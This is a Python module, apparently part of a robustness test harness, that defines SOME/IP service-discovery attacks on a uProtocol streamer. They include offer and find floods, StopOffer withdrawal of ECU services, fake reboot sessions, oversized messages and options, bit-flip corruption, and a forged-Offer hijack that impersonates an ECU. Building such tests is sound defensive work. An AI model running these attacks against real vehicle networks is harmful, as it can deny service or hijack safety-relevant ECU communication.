# SPDX-License-Identifier: Apache-2.0
"""SOME/IP service discovery of a host that lies: Offers, StopOffers, reboots, Finds, Subscribes."""

import select
import socket
import struct
from collections.abc import Callable, Iterator
from contextlib import ExitStack, contextmanager
from typing import Final

from ustreamer.host.attack.attack import Attack, Need
from ustreamer.host.attack.clients.someip_host import (
    FIND,
    HOSTS,
    OFFER,
    SUBSCRIBE,
    endpoint_option,
    received,
    sd_entry,
    sd_message,
    send,
    udp,
)
from ustreamer.host.attack.scene import SUBSCRIBE as SUBSCRIBE_METHOD
from ustreamer.host.attack.scene import Scene
from ustreamer.uprotocol.pb import usubscription_v3 as pb
from ustreamer.uprotocol.uattributes import UPayloadFormat
from ustreamer.uprotocol.ustatus import UStatusError
from ustreamer.uprotocol.uuri import UUri

FAMILY: Final = "service discovery"
_NEEDS: Final = (Need.SD,)
_RATE: Final = 500
_STOP: Final = 0


def _sd_address(scene: Scene) -> tuple[str, int]:
    """The unicast address of service discovery."""
    assert scene.someip.sd is not None  # by the needs of the attack
    return scene.someip.address[0], scene.someip.sd[1]


def _messages(
    make: Callable[[Scene, int, str], bytes], rate: float = _RATE, hosts: int = 1
) -> Callable[[Scene], str]:
    """An attack that sends messages of service discovery at a rate. Others must still be served."""

    def run(scene: Scene) -> str:
        to = _sd_address(scene)
        with ExitStack() as stack:
            sockets = [stack.enter_context(udp(each, to[1])) for each in HOSTS[:hosts]]
            for number in scene.paced(rate):
                send(sockets[number % hosts], make(scene, number, HOSTS[number % hosts]), to)
        return scene.service_denied()

    return run


def _session(number: int) -> int:
    return number % 0xFFFF + 1


def offers(scene: Scene, number: int, host: str) -> bytes:
    """Offers of services without any use, 30 in a message."""
    entries = b"".join(sd_entry(OFFER, (number * 30 + each) % 0xF000, 3) for each in range(30))
    return sd_message(entries, endpoint_option((host, 30_000)), session=_session(number))


def stop_offers(scene: Scene, number: int, host: str) -> bytes:
    """StopOffers of all services of the ECUs."""
    entries = b"".join(
        sd_entry(OFFER, each.service, _STOP, instance=each.instance, major=each.major)
        for each in scene.someip.ecu_services[:40]
    )
    return sd_message(entries, endpoint_option((host, 30_000)), session=_session(number))


def reboots(scene: Scene, number: int, host: str) -> bytes:
    """Session ids that fall, with the flag of a reboot in turn."""
    entry = sd_entry(FIND, 0x7777, 3, 0xFFFF_FFFF, options=0)
    return sd_message(entry, session=0xFFFF - number % 0xFFFF, reboot=number % 2 == 0)


def finds(scene: Scene, number: int, host: str) -> bytes:
    """Finds of the offered services, 60 in a message: each could get a reply."""
    service = next((each.service for each in scene.someip.offered), 0x7777)
    return sd_message(
        sd_entry(FIND, service, 3, 0xFFFF_FFFF, instance=0xFFFF, major=0xFF, options=0) * 60,
        session=_session(number),
    )


def many_entries(scene: Scene, number: int, host: str) -> bytes:
    return sd_message(sd_entry(FIND, 0x7777, 3, 0xFFFF_FFFF, options=0) * 4_000, session=_session(number))


def many_messages(scene: Scene, number: int, host: str) -> bytes:
    """A datagram of 2 000 messages without an entry."""
    return sd_message(b"", session=_session(number)) * 2_000


def huge_options(scene: Scene, number: int, host: str) -> bytes:
    """A configuration option of 60 kB, and an entry that names it."""
    items = (b"\x03a=b" * 15_000)[:59_999] + b"\0"
    option = struct.pack(">HBB", len(items) + 1, 0x01, 0) + items
    return sd_message(sd_entry(OFFER, 0x7777, 3), option, session=_session(number))


def corrupt(scene: Scene, number: int, host: str) -> bytes:
    raw = bytearray(offers(scene, number, host))
    for _ in range(3):
        raw[scene.rng.randrange(16, len(raw))] ^= 1 << scene.rng.randrange(8)
    return bytes(raw[: scene.rng.randrange(16, len(raw) + 1)])


def subscribes(scene: Scene, number: int, host: str) -> bytes:
    """Subscriptions of offered events, to another port each time."""
    service = next((each for each in scene.someip.offered if each.events), None)
    if service is None:
        return finds(scene, number, host)
    group = service.events[0].eventgroup
    last = group if isinstance(group, int) else service.events[0].id
    entry = sd_entry(SUBSCRIBE, service.service, 3, last, instance=service.instance, major=service.major)
    return sd_message(entry, endpoint_option((host, 10_000 + number % 50_000)), session=_session(number))


# --- the place of an ECU ----------------------------------------------------------------------------------------------


@contextmanager
def _wanted(scene: Scene) -> Iterator[tuple[int, int, int]]:
    """Service, instance and version of an ECU that is sought: the bystander subscribes its event."""
    service = next(each for each in scene.someip.ecu_services if each.remote is None and each.events)
    ue_id = service.service | (service.instance << 16 if service.instance != 1 else 0)
    topic = UUri(scene.someip.authority, ue_id, service.major, service.events[0].id)
    method = scene.target.usubscription_address.with_resource(SUBSCRIBE_METHOD)
    payload = pb.SubscriptionRequest(topic=topic.to_pb()).SerializeToString()
    try:
        scene.bystander.call(method, payload, UPayloadFormat.PROTOBUF, 3_000)
        yield service.service, service.instance, service.major
    except UStatusError:
        yield service.service, service.instance, service.major


_HIJACKED: Final = "the streamer follows a forged Offer and subscribes at the attacker"
_LAST_WAIT_S: Final = 1.0


def hijack(scene: Scene) -> str:
    """Offer a service of an ECU, and see whether the streamer subscribes at the attacker."""
    to = _sd_address(scene)
    with _wanted(scene) as (service, instance, major), udp(HOSTS[9], to[1]) as attacker:
        entry = sd_entry(OFFER, service, 3, instance=instance, major=major)
        for number in scene.paced(20):
            send(
                attacker, sd_message(entry, endpoint_option((HOSTS[9], 30_000)), session=_session(number)), to
            )
            if _is_subscribed(attacker):
                return _HIJACKED
        select.select([attacker], [], [], _LAST_WAIT_S)  # a busy machine subscribes later
        return _HIJACKED if _is_subscribed(attacker) else ""


def _is_subscribed(attacker: socket.socket) -> bool:
    return any(_has_entry(each, SUBSCRIBE) for each in received(attacker))


def _has_entry(datagram: bytes, kind: int) -> bool:
    """Whether the first entry of a message of service discovery is of a kind."""
    return len(datagram) > 24 and datagram[24] == kind


ATTACKS: Final = (
    Attack("sd-offer-flood", FAMILY, "offer 15 000 services a second", _NEEDS, _messages(offers, hosts=20)),
    Attack("sd-stop-offer", FAMILY, "withdraw the services of the ECUs", _NEEDS, _messages(stop_offers, 100)),
    Attack("sd-reboots", FAMILY, "pretend to reboot with each message", _NEEDS, _messages(reboots, hosts=20)),
    Attack("sd-find-flood", FAMILY, "seek the offered services without end", _NEEDS, _messages(finds, 200)),
    Attack("sd-many-entries", FAMILY, "send 4 000 entries in a message", _NEEDS, _messages(many_entries, 50)),
    Attack(
        "sd-many-messages", FAMILY, "send 2 000 messages in a datagram", _NEEDS, _messages(many_messages, 50)
    ),
    Attack("sd-huge-options", FAMILY, "send options of 60 kB", _NEEDS, _messages(huge_options, 100)),
    Attack("sd-corrupt", FAMILY, "flip bits of valid messages", _NEEDS, _messages(corrupt, 1_000, 20)),
    Attack(
        "sd-subscribe-flood",
        FAMILY,
        "fill the places of event subscribers",
        (Need.SD, Need.OFFERED),
        _messages(subscribes),
    ),
    Attack(
        "sd-hijack", FAMILY, "take the place of an ECU with a forged Offer", (Need.FOUND_SERVICE,), hijack
    ),
)
